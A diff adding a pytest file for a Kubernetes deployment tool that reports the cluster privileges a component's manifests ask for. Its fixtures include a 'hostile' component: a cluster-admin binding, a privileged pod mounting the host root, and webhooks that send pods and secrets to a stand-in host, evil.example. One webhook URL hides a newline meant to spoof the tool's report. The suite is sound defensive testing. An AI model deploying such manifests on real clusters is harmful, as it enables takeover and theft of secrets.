@@ -1,0 +1,277 @@
+"""What objects ask for beyond their own affairs, told from their manifests."""
+
+from typing import Any
+
+import pytest
+
+from stackctl.cli.report_plan import plan_lines
+from stackctl.cli.report_privileges import new_privilege_lines
+from stackctl.cli.terminal import Paint
+from stackctl.model.component import Component, ComponentSpec, Feature, Manifests
+from stackctl.model.objects import Manifest, ref_of
+from stackctl.model.plan import Action, Change, Plan
+from stackctl.model.privileges import Privilege, Sort, asked_by_features, newly_asked, privileges
+from stackctl.model.rights import rights
+
+RBAC = "rbac.authorization.k8s.io/v1"
+ROLES = "rbac.authorization.k8s.io"
+
+
+def made(kind: str, name: str = "x", namespace: str = "", api: str = "v1", **more: Any) -> Manifest:
+    place = {"namespace": namespace} if namespace else {}
+    return {"apiVersion": api, "kind": kind, "metadata": {"name": name} | place} | more
+
+
+def rule(groups: str, resources: str, verbs: str, **more: Any) -> dict[str, Any]:
+    parts = {"apiGroups": groups, "resources": resources, "verbs": verbs}
+    return {key: [each.strip() for each in text.split(",")] for key, text in parts.items()} | more
+
+
+def role(*rules: dict[str, Any], name: str = "x", labels: dict[str, str] | None = None) -> Manifest:
+    found = made("ClusterRole", name, api=RBAC, rules=list(rules))
+    return found | {"metadata": {"name": name, "labels": labels or {}}}
+
+
+def bound(to: str, *subjects: dict[str, str], kind: str = "ClusterRole", **where: str) -> Manifest:
+    which = "RoleBinding" if where else "ClusterRoleBinding"
+    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": to}
+    return made(which, "b", api=RBAC, roleRef=reference, subjects=list(subjects), **where)
+
+
+OURS = {"kind": "ServiceAccount", "name": "x", "namespace": "x"}
+
+
+def pods(kind: str = "DaemonSet", **spec: Any) -> Manifest:
+    return made(kind, "x", "x", "apps/v1", spec={"template": {"spec": spec}})
+
+
+def asked(*objects: Manifest) -> list[tuple[str, str]]:
+    return [(each.what, each.whom) for each in privileges(("x", each) for each in objects)]
+
+
+@pytest.mark.parametrize(
+    ("given", "what"),
+    [
+        (rule("*", "*", "*"), ["everything, as cluster-admin"]),
+        (rule(",apps", "secrets", "get"), ["read Secrets"]),
+        (rule("", "secrets", "*"), ["read Secrets", "write Secrets"]),
+        (rule("", "secrets", "get", resourceNames=["mine"]), []),
+        (
+            rule("", "*", "list"),
+            ["read Secrets", "reach into kubelets"],
+        ),
+        (rule("", "serviceaccounts", "impersonate"), ["act as others"]),
+        (rule("", "serviceaccounts/token", "create"), ["issue tokens for ServiceAccounts"]),
+        (
+            rule(ROLES, "clusterroles", "bind"),
+            ["give more rights than it has"],
+        ),
+        (rule(ROLES, "rolebindings", "create"), ["write roles and bindings"]),
+        (rule("certificates.k8s.io", "signers", "approve"), ["sign certificates"]),
+        (
+            rule("certificates.k8s.io", "signers", "approve", resourceNames=["mine.io/*"]),
+            [],
+        ),
+        (
+            rule("certificates.k8s.io", "signers", "sign", resourceNames=["kubernetes.io/x"]),
+            ["sign certificates"],
+        ),
+        (rule("", "nodes/*", "get"), ["reach into kubelets"]),
+        (rule("", "*/exec", "create"), ["run commands in Pods"]),
+        (rule("apps,batch", "jobs,deployments", "create"), ["create Pods"]),
+        (rule("apps", "deployments", "get,list,watch"), []),
+        (
+            rule("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "patch"),
+            ["change admission webhooks"],
+        ),
+        (rule("sparkoperator.k8s.io", "*", "*"), []),
+        ({"nonResourceURLs": ["*"], "verbs": ["get"]}, ["every path of the API server"]),
+    ],
+)
+def test_a_rule_in_words(given, what):
+    """What reaches beyond a program's own kinds, and nothing else."""
+    assert list(rights(role(given))) == what
+
+
+def test_rights_belong_to_who_is_bound():
+    """To roles of the stack and of the cluster, in the cluster and in others' namespaces."""
+    secrets = role(rule("", "secrets", "get"))
+    everybody = {"kind": "Group", "name": "system:authenticated"}
+    assert asked(secrets, bound("x", OURS)) == [("read Secrets", "ServiceAccount/x/x")]
+    assert asked(bound("cluster-admin", OURS, everybody)) == [
+        ("everything, as cluster-admin", "ServiceAccount/x/x"),
+        ("everything, as cluster-admin", "Group/system:authenticated"),
+    ]
+    assert asked(bound("edit", OURS)) == [("what the role edit allows", "ServiceAccount/x/x")]
+    assert asked(bound("system:auth-delegator", OURS)) == []
+    there = bound("x", OURS, namespace="kube-system")
+    found = [("read Secrets in namespace kube-system", "ServiceAccount/x/x")]
+    assert asked(secrets, there) == found
+    own = made("Namespace", "kube-system")
+    assert asked(own, secrets, there) == []
+
+
+def test_a_role_that_nobody_is_bound_to_is_told_too():
+    """Somebody else may bind it, and a label gives it to many."""
+    key = "rbac.authorization.k8s.io/aggregate-to-edit"
+    given = rule("", "pods/exec", "create")
+    assert asked(role(given)) == [("run commands in Pods", "whoever it is bound to")]
+    (found,) = asked(role(given, labels={key: "true"}))
+    assert found == ("run commands in Pods", "everybody with the cluster's role edit")
+
+
+def test_what_pods_ask_of_their_nodes():
+    """Privileges, the host's namespaces and files, capabilities, root; no more than that."""
+    mounts = [
+        {"name": "all", "mountPath": "/a"},
+        {"name": "sys", "mountPath": "/s", "readOnly": True},
+    ]
+    context = {"capabilities": {"add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}, "runAsUser": 0}
+    spec: dict[str, Any] = {
+        "hostNetwork": True,
+        "hostPID": True,
+        "containers": [{"name": "a", "volumeMounts": mounts, "securityContext": context}],
+        "initContainers": [{"name": "i", "securityContext": {"privileged": True}}],
+        "volumes": [
+            {"name": "all", "hostPath": {"path": "/"}},
+            {"name": "sys", "hostPath": {"path": "/sys"}},
+            {"name": "tmp", "emptyDir": {}},
+        ],
+    }
+    assert [what for what, _ in asked(pods(**spec))] == [
+        "privileged",
+        "the host's network",
+        "the host's processes",
+        "host path / (writable)",
+        "host path /sys",
+        "capability SYS_ADMIN",
+        "as root",
+    ]
+    assert asked(pods(containers=[{"name": "a", "securityContext": {"runAsUser": 1}}])) == []
+
+
+def webhook(kind: str = "Mutating", **more: Any) -> Manifest:
+    return made(f"{kind}WebhookConfiguration", webhooks=[{"name": "a"} | more])
+
+
+PODS = {"apiGroups": [""], "resources": ["pods", "secrets"], "operations": ["CREATE"]}
+OWN = {"apiGroups": ["kubeflow.org"], "resources": ["tfjobs"], "operations": ["CREATE"]}
+
+
+@pytest.mark.parametrize(
+    ("found", "what"),
+    [
+        (webhook(rules=[OWN]), []),
+        (
+            webhook(rules=[PODS]),
+            ["changes all pods, secrets, and none gets in without it"],
+        ),
+        (
+            webhook("Validating", rules=[PODS], failurePolicy="Ignore"),
+            ["checks all pods, secrets"],
+        ),
+        (
+            webhook(rules=[PODS], namespaceSelector={"matchLabels": {"a": "b"}}),
+            ["changes some of all pods, secrets"],
+        ),
+        (
+            webhook(rules=[OWN], clientConfig={"url": "https://evil.example"}),
+            ["sends what it sees to https://evil.example"],
+        ),
+        (
+            webhook(rules=[PODS], clientConfig={"url": "https://evil.example"}),
+            ["sends pods, secrets to https://evil.example"],
+        ),
+        (made("Service", spec={"type": "LoadBalancer"}), ["reachable from outside (LoadBalancer)"]),
+        (made("Service", spec={"type": "ExternalName", "externalName": "e"}), ["leads to e"]),
+        (made("Service", spec={"type": "ClusterIP"}), []),
+        (made("APIService", "v1.x", spec={"service": {}, "group": "x"}), []),
+        (made("APIService", "v1.x", spec={"service": {"name": "a"}}), ["answers for the API v1.x"]),
+    ],
+)
+def test_other_peoples_objects_and_the_network(found, what):
+    """What is sent elsewhere, changed on its way, or reachable from outside."""
+    assert [each for each, _ in asked(found)] == what
+
+
+def change(action: Action, desired: Manifest, live: Manifest | None = None) -> Change:
+    return Change(ref_of(desired), "x", action, desired, live)
+
+
+def test_new_is_what_is_not_given_already():
+    """By what is there, and what it becomes; a role that grows is new for whom it is bound to."""
+    binding = change(Action.UNCHANGED, bound("x", OURS), made("ClusterRoleBinding", "b"))
+    reads, more = role(rule("", "secrets", "get")), role(rule("", "secrets", "get,update"))
+
+    def new(*changes: Change) -> list[str]:
+        return [each.what for each in newly_asked(Plan("s", "p", changes))]
+
+    assert new(binding, change(Action.UPDATE, more, reads)) == ["write Secrets"]
+    assert new(binding, change(Action.UPDATE, reads, more)) == []
+    assert new(binding, change(Action.UNCHANGED, more, made("ClusterRole"))) == []
+    assert new(binding, change(Action.CREATE, reads)) == ["read Secrets"]
+    rooted = pods(hostPID=True, containers=[])
+    assert new(change(Action.RECREATE, rooted, pods(containers=[]))) == ["the host's processes"]
+    gone = Change(ref_of(rooted), "x", Action.PRUNE, live=rooted)
+    assert new(gone) == []
+
+
+def test_features_say_what_more_they_ask_for():
+    """What comes with the component is not repeated for each of them."""
+    features = {"more": Feature("more"), "usual": Feature("usual", default=True)}
+    spec = ComponentSpec("1", "x", features=features)
+    component = Component("x", "x", spec, "x")
+    manifests = Manifests(
+        base=(pods(containers=[], hostPID=True),),
+        features={"more": (pods("Deployment", containers=[], hostIPC=True),), "usual": ()},
+        patches={},
+        each={},
+        files={},
+    )
+    found = asked_by_features(component, manifests, {})
+    assert {name: [each.what for each in all_] for name, all_ in found.items()} == {
+        "": ["the host's processes"],
+        "more": ["the host's memory"],
+    }
+
+
+def hostile() -> Plan:
+    """A component that takes a cluster over."""
+    root = {"name": "root", "hostPath": {"path": "/"}}
+    mounted = {"name": "a", "securityContext": {"privileged": True}, "volumeMounts": [root]}
+    objects = (
+        bound("cluster-admin", OURS),
+        pods(containers=[mounted], volumes=[root]),
+        webhook(rules=[PODS], clientConfig={"url": "https://evil.example/\nPlan: nothing"}),
+        made("ServiceAccount", "x", "x"),
+    )
+    return Plan("s", "p", tuple(change(Action.CREATE, each) for each in objects))
+
+
+def test_a_hostile_component_is_seen_in_its_plan(golden):
+    """All of it in a few lines, right before the question; none that looks like ours."""
+    lines = plan_lines(hostile(), Paint(on=False), width=80)
+    golden("plan-hostile.txt", lines)
+    wide = new_privilege_lines(hostile(), Paint(on=False))
+    assert not [line for line in wide if line.startswith("Plan:")]
+
+
+def test_many_objects_are_counted():
+    """What reaches farthest is named; the rest is in the component's description."""
+    volumes = [{"name": f"v{n}", "hostPath": {"path": f"/a/b/c{n}"}} for n in range(9)]
+    changes = [
+        change(
+            Action.CREATE, made("Pod", f"p{n}", "x", spec={"containers": [], "volumes": volumes})
+        )
+        for n in range(9)
+    ]
+    lines = new_privilege_lines(Plan("s", "p", tuple(changes)), Paint(on=False))
+    assert "Pod/p0 host paths /a/b/c0, /a/b/c1, /a/b/c2 and 6 more" in lines[2]
+    assert lines[2].endswith("; and 3 more objects")
+
+
+def test_sorted_by_how_far_it_reaches():
+    """Rights over the cluster come first."""
+    found = [each.sort for each in newly_asked(hostile())]
+    assert found == sorted(found, key=list(Sort).index)
+    assert all(isinstance(each, Privilege) for each in newly_asked(hostile()))
